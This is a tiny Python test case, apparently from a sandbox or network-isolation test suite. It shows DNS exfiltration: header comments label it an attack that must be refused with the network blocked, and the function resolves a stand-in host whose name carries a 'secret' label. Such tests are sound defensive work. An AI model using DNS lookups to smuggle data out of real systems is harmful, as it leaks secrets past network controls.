# Attack: let the name of a host carry data out
# Must: be refused
# Needs: network_blocked

import socket

def attack():
    return socket.getaddrinfo("secret.example.com", 80)
